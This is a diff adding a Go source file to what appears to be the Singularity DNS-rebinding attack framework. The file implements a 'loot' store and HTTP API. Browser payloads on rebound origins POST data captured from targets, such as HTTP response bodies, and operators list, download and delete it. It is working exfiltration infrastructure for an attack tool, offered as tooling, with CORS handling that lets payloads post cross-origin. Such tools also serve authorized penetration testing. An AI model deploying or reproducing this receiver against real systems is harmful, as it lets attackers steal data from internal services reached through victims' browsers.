@@ -0,0 +1,352 @@
+package singularity
+
+import (
+	"crypto/rand"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	bolt "go.etcd.io/bbolt"
+)
+
+// lootAPIPath is the route where payloads store data captured from targets
+// and operators retrieve it
+const lootAPIPath = "/api/loot"
+
+// maxLootSize bounds the size of captured data accepted per request
+const maxLootSize = 10 << 20
+
+// errLootQuotaExceeded is returned when storing loot would exceed
+// the maximum size of all loot or of the loot of its session
+var errLootQuotaExceeded = errors.New("loot quota exceeded")
+
+// Loot is data captured by a payload from a target, e.g. a HTTP response body
+type Loot struct {
+	ID          string
+	Session     string
+	Time        time.Time
+	URL         string `json:",omitempty"` // target resource the data was captured from, if reported
+	ContentType string `json:",omitempty"`
+	Size        int
+	data        []byte
+}
+
+// LootStore stores captured data keyed by DNS session.
+// Loot is persisted in Dir if set, as "<id>.json" metadata
+// and "<id>.data" content files, or in DB if set (see NewBoltLootStore),
+// and kept in memory otherwise.
+// Loot beyond MaxBytes in total or MaxSessionBytes for its session is rejected,
+// no limit if 0.
+type LootStore struct {
+	sync.RWMutex
+	Dir             string
+	DB              *bolt.DB
+	MaxBytes        int64
+	MaxSessionBytes int64
+	items           map[string]*Loot
+	size            int64
+	sessionSizes    map[string]int64
+}
+
+// NewLootStore returns a loot store persisting loot in dir if not empty,
+// loaded with the loot previously saved there.
+func NewLootStore(dir string) (*LootStore, error) {
+	ls := &LootStore{Dir: dir, items: make(map[string]*Loot), sessionSizes: make(map[string]int64)}
+	if dir == "" {
+		return ls, nil
+	}
+	if err := os.MkdirAll(dir, 0700); err != nil {
+		return nil, err
+	}
+
+	files, err := filepath.Glob(filepath.Join(dir, "*.json"))
+	if err != nil {
+		return nil, err
+	}
+	for _, file := range files {
+		metadata, err := ioutil.ReadFile(file)
+		if err != nil {
+			return nil, err
+		}
+		loot := &Loot{}
+		if err := json.Unmarshal(metadata, loot); err != nil {
+			return nil, fmt.Errorf("%v: %v", file, err)
+		}
+		if loot.data, err = ioutil.ReadFile(strings.TrimSuffix(file, ".json") + ".data"); err != nil {
+			return nil, err
+		}
+		ls.load(loot)
+	}
+	return ls, nil
+}
+
+// load adds loot read from storage to the store
+func (ls *LootStore) load(loot *Loot) {
+	ls.items[loot.ID] = loot
+	ls.size += int64(len(loot.data))
+	ls.sessionSizes[loot.Session] += int64(len(loot.data))
+}
+
+// newLootID returns a random loot identifier
+func newLootID() (string, error) {
+	b := make([]byte, 8)
+	if _, err := rand.Read(b); err != nil {
+		return "", err
+	}
+	return hex.EncodeToString(b), nil
+}
+
+// Add stores captured data of a session,
+// or returns errLootQuotaExceeded if the store or the session is full
+func (ls *LootStore) Add(session string, url string, contentType string, data []byte) (*Loot, error) {
+	id, err := newLootID()
+	if err != nil {
+		return nil, err
+	}
+	loot := &Loot{ID: id, Session: session, Time: time.Now(), URL: url, ContentType: contentType,
+		Size: len(data), data: data}
+
+	// loot is written under the mutex so that concurrent posts cannot exceed quotas
+	ls.Lock()
+	defer ls.Unlock()
+	size := int64(len(data))
+	if (ls.MaxBytes > 0 && ls.size+size > ls.MaxBytes) ||
+		(ls.MaxSessionBytes > 0 && ls.sessionSizes[session]+size > ls.MaxSessionBytes) {
+		return nil, errLootQuotaExceeded
+	}
+	if ls.sessionSizes == nil {
+		ls.sessionSizes = make(map[string]int64)
+	}
+
+	if ls.Dir != "" || ls.DB != nil {
+		metadata, err := json.Marshal(loot)
+		if err != nil {
+			return nil, err
+		}
+		if ls.DB != nil {
+			err = putBoltLoot(ls.DB, id, metadata, data)
+		} else if err = ioutil.WriteFile(filepath.Join(ls.Dir, id+".data"), data, 0600); err == nil {
+			err = ioutil.WriteFile(filepath.Join(ls.Dir, id+".json"), metadata, 0600)
+		}
+		if err != nil {
+			return nil, err
+		}
+	}
+
+	ls.items[id] = loot
+	ls.size += size
+	ls.sessionSizes[session] += size
+	return loot, nil
+}
+
+// Get returns loot by identifier
+func (ls *LootStore) Get(id string) (*Loot, bool) {
+	ls.RLock()
+	defer ls.RUnlock()
+	loot, ok := ls.items[id]
+	return loot, ok
+}
+
+// List returns the loot of a session, or of all sessions if session is empty,
+// from the oldest to the most recent
+func (ls *LootStore) List(session string) []*Loot {
+	ls.RLock()
+	list := []*Loot{}
+	for _, loot := range ls.items {
+		if session == "" || loot.Session == session {
+			list = append(list, loot)
+		}
+	}
+	ls.RUnlock()
+	sort.Slice(list, func(i, j int) bool { return list[i].Time.Before(list[j].Time) })
+	return list
+}
+
+// Delete removes loot and its files or database records
+func (ls *LootStore) Delete(id string) bool {
+	ls.Lock()
+	loot, ok := ls.items[id]
+	if ok {
+		delete(ls.items, id)
+		ls.size -= int64(len(loot.data))
+		if ls.sessionSizes[loot.Session] -= int64(len(loot.data)); ls.sessionSizes[loot.Session] <= 0 {
+			delete(ls.sessionSizes, loot.Session)
+		}
+	}
+	ls.Unlock()
+	if ok && ls.DB != nil {
+		if err := deleteBoltLoot(ls.DB, id); err != nil {
+			logEvent(LogError, "HTTP", LogFields{"session": loot.Session}, "could not delete loot %v: %v", id, err)
+		}
+	} else if ok && ls.Dir != "" {
+		os.Remove(filepath.Join(ls.Dir, id+".json"))
+		os.Remove(filepath.Join(ls.Dir, id+".data"))
+	}
+	return ok
+}
+
+// LootHandler is a HTTP handler storing and serving data captured by payloads:
+//
+//	POST   /api/loot                  stores the request body, from payloads
+//	GET    /api/loot[?session=<id>]   lists loot, of a session if set
+//	GET    /api/loot/<id>             returns loot metadata
+//	GET    /api/loot/<id>/download    downloads captured data
+//	DELETE /api/loot/<id>             deletes loot
+//
+// Payloads POST from the origin of their DNS session, which must exist,
+// and may report the captured resource with the "url" query parameter.
+// Other requests are authorized like AdminHandler does.
+type LootHandler struct {
+	hss *HTTPServerStoreHandler
+	// serve only POST requests of payloads, e.g. on attack servers
+	captureOnly bool
+}
+
+func (lh *LootHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	logHTTPRequest(r)
+
+	loot := lh.hss.Loot
+	if loot == nil {
+		http.Error(w, "Internal server error", http.StatusInternalServerError)
+		return
+	}
+
+	path := strings.Trim(strings.TrimPrefix(r.URL.Path, lootAPIPath), "/")
+	elements := []string{}
+	if path != "" {
+		elements = strings.Split(path, "/")
+	}
+
+	// payloads run in the browser of targets, on the origin of their session
+	if len(elements) == 0 && (r.Method == "POST" || r.Method == "OPTIONS") {
+		lh.capture(w, r)
+		return
+	}
+
+	// other requests are from operators
+	if lh.captureOnly {
+		http.Error(w, "Not found", http.StatusNotFound)
+		return
+	}
+	if !lh.hss.authorizeAdmin(w, r) {
+		return
+	}
+
+	// operators only see the loot of the sessions of their namespace
+	op := lh.hss.requestOperator(r)
+	if len(elements) > 0 {
+		if item, ok := loot.Get(elements[0]); ok && !op.owns(item.Session) {
+			http.Error(w, "Not found", http.StatusNotFound)
+			return
+		}
+	}
+
+	switch {
+	case len(elements) == 0 && r.Method == "GET":
+		items := []*Loot{}
+		for _, item := range loot.List(r.URL.Query().Get("session")) {
+			if op.owns(item.Session) {
+				items = append(items, item)
+			}
+		}
+		writeJSON(w, items)
+
+	case len(elements) == 1 && r.Method == "GET":
+		item, ok := loot.Get(elements[0])
+		if !ok {
+			http.Error(w, "Not found", http.StatusNotFound)
+			return
+		}
+		writeJSON(w, item)
+
+	case len(elements) == 2 && elements[1] == "download" && r.Method == "GET":
+		item, ok := loot.Get(elements[0])
+		if !ok {
+			http.Error(w, "Not found", http.StatusNotFound)
+			return
+		}
+		w.Header().Set("Content-Type", "application/octet-stream")
+		w.Header().Set("Content-Disposition", fmt.Sprintf(`attachment; filename="%v-%v.bin"`, item.Session, item.ID))
+		w.Write(item.data)
+
+	case len(elements) == 1 && r.Method == "DELETE":
+		if !loot.Delete(elements[0]) {
+			http.Error(w, "Not found", http.StatusNotFound)
+			return
+		}
+		logEvent(LogInfo, "HTTP", httpRequestFields(r), "deleted loot: %v", elements[0])
+		w.WriteHeader(http.StatusNoContent)
+
+	case len(elements) > 2 || (len(elements) == 2 && elements[1] != "download"):
+		http.Error(w, "Not found", http.StatusNotFound)
+
+	default:
+		http.Error(w, "Method not allowed", http.StatusMethodNotAllowed)
+	}
+}
+
+// capture stores data POSTed by a payload. It answers CORS preflight requests
+// since payloads post cross-origin once their origin is rebound to the target.
+func (lh *LootHandler) capture(w http.ResponseWriter, r *http.Request) {
+	origin := r.Header.Get("Origin")
+	name, err := NewDNSQueryFromOrigin(origin)
+	if err != nil {
+		http.Error(w, "Forbidden", http.StatusForbidden)
+		return
+	}
+	w.Header().Set("Access-Control-Allow-Origin", origin)
+	w.Header().Set("Vary", "Origin")
+
+	if r.Method == "OPTIONS" {
+		w.Header().Set("Access-Control-Allow-Methods", "POST")
+		w.Header().Set("Access-Control-Allow-Headers", "Content-Type")
+		w.WriteHeader(http.StatusNoContent)
+		return
+	}
+
+	dcss := lh.hss.Dcss
+	if dcss == nil {
+		http.Error(w, "Internal server error", http.StatusInternalServerError)
+		return
+	}
+	session := sessionKey(lh.hss.appConfig().SessionKeyFn, name, httpRemoteAddr(r))
+	dcss.RLock()
+	_, ok := dcss.Sessions[session]
+	dcss.RUnlock()
+	if !ok {
+		http.Error(w, "Forbidden", http.StatusForbidden)
+		return
+	}
+
+	data, err := ioutil.ReadAll(http.MaxBytesReader(w, r.Body, maxLootSize))
+	if err != nil {
+		http.Error(w, "Request entity too large", http.StatusRequestEntityTooLarge)
+		return
+	}
+
+	item, err := lh.hss.Loot.Add(session, r.URL.Query().Get("url"), r.Header.Get("Content-Type"), data)
+	if err == errLootQuotaExceeded {
+		logEvent(LogWarn, "HTTP", LogFields{"session": session, "size": len(data)},
+			"rejected loot of session %v: %v", session, err)
+		http.Error(w, "Insufficient storage", http.StatusInsufficientStorage)
+		return
+	}
+	if err != nil {
+		logEvent(LogError, "HTTP", LogFields{"session": session}, "could not store loot of session %v: %v", session, err)
+		http.Error(w, "Internal server error", http.StatusInternalServerError)
+		return
+	}
+
+	logEvent(LogInfo, "HTTP", LogFields{"session": session, "size": item.Size},
+		"stored loot %v of session %v", item.ID, session)
+	writeJSON(w, item)
+}